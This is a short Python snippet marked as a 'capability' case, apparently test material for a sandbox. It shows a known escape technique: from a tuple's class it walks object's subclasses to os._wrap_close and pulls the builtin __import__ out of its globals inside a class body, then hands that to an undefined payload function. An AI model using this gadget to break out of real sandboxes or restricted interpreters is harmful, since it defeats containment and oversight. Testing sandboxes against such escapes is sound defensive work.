# kind: capability
# A class body is a function of its own: the walk from there.
class Walk:
    found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]
    imp = found[0].__init__.__globals__["__builtins__"]["__import__"]


payload(Walk.imp)
